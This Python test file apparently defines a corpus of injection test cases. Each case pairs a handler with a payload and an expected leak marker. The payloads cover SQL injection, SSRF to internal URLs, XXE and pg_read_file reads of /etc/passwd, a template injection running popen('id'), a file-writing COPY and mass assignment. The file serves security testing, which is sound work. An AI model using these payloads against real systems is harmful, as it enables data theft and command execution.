"""Attacks on statements, queries and addresses."""

import json

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.third import http

NEEDS = ("aws-http", "postgres")
CARD = "card-5500-x"
TOKEN = "internal-token-4711"
ATTACKS = [
    Attack("SQL", "map_box", {"bbox": "0,0 UNION SELECT card FROM guests"}, CARD),
    Attack(
        "SQL",
        "tile",
        http("GET", "/t", ids={"layer": "rooms WHERE 0 UNION SELECT card FROM guests --", "z": "1"}),
        CARD,
    ),
    Attack("SQL", "step", {"step": "%Y', '2026-03-14'), (SELECT card FROM guests), strftime('%Y"}, CARD),
    Attack("SQL", "json_path", {"field": "a'), (SELECT card FROM guests), ('"}, CARD),
    Attack("SQL", "agent_sql", {"completion": json.dumps({"sql": "SELECT card FROM guests"})}, CARD),
    Attack(
        "SQL", "form_filter", http("POST", "/f", form={"name": "x' UNION SELECT card FROM guests --"}), CARD
    ),
    Attack(
        "SQL", "form_filter", http("POST", "/f", form={"1=1 UNION SELECT card FROM guests --": "x"}), CARD
    ),
    Attack("SQL", "having", {"least": "9 UNION SELECT card FROM guests"}, CARD),
    Attack("SQL", "collate", {"collation": "nocase, (SELECT 1) LIMIT 1"}, "[2]"),
    Attack("SQL", "view", {"columns": "(SELECT card FROM guests) AS x"}, CARD),
    Attack("SQL", "orm_filter", {"name": "x' OR name <> 'bob"}, CARD),
    Attack("SQL", "orm_from", {"fields": "(SELECT group_concat(card) FROM people)"}, CARD),
    Attack("SQL", "pg_function", {"function": "pg_read_file('/etc/passwd') || length"}, "root:x:0"),
    Attack("SQL", "pg_json", {"key": "x' UNION SELECT current_setting('data_directory') --"}, "postgres"),
    Attack(
        "SQL",
        "frame_sql",
        {"region": "x' UNION SELECT length(content) FROM read_text('/etc/passwd') --"},
        "[[",
    ),
    Attack("SQL", "duck_copy", {"name": "x.csv'; COPY (SELECT 2) TO '/tmp/made.py"}, "made.py"),
    Attack(
        "SQL, AWS",
        "athena_days",
        {"from": "2026-01-01' OR tenant <> 'x"},
        "date '2026-01-01' OR tenant <> 'x'",
    ),
    Attack(
        "SQL, second order",
        "use_kept",
        {},
        CARD,
        before=[("keep", {"filter": "x' UNION SELECT card FROM guests --"})],
    ),
    Attack("SSRF", "avatar", {"avatar": "@INSIDE@/internal/x"}, "aW50ZXJuYWwtdG9rZW4t"),
    Attack(
        "SSRF, redirect",
        "avatar",
        {"avatar": "@PARTNER@/redirect?to=@INSIDE@/internal/x"},
        "aW50ZXJuYWwtdG9rZW4t",
    ),
    Attack("SSRF", "render_page", {"page": {"url": "http://127.0.0.1:@PORT@/internal/x"}}, "200]"),
    Attack("SSRF", "oembed", {"provider": "x@127.0.0.1:@PORT@/internal/x?"}, TOKEN),
    Attack("SSRF", "status_page", {"target": "@INSIDE@/internal/x"}, "/internal/x"),
    Attack("SSRF", "next_page", {"cursor": "//localhost:@PORT@/internal/x"}, TOKEN),
    Attack("URL structure", "tenant_api", {"tenant": "../admin/keys?"}, '"/admin/keys?/orders"'),
    Attack("URL structure", "sign_in", {"scope": "read&scope=admin&client=b"}, "scope=admin&client=b"),
    Attack("XPath", "xml_total", {"id": "x' or '1'='1", "user": "none' or @user='ann"}, CARD),
    Attack(
        "XXE",
        "xml_upload",
        {"svg": '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg><text>&e;</text></svg>'},
        "root:x:0",
    ),
    Attack(
        "XXE",
        "xml_upload",
        {
            "svg": "<!DOCTYPE s [<!ENTITY % p \"<!ENTITY e SYSTEM 'file:///etc/passwd'>\"> %p;]><svg><text>&e;</text></svg>"
        },
        "root:x:0",
    ),
    Attack("template", "mail_merge", {"greeting": "{{ secret }}"}, CARD),
    Attack(
        "template",
        "mail_merge",
        {"greeting": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"},
        "uid=",
    ),
    Attack("NoSQL", "mass_update", http("POST", "/m", {"address = :0, admin": "yes"}), '"admin": "yes"'),
]
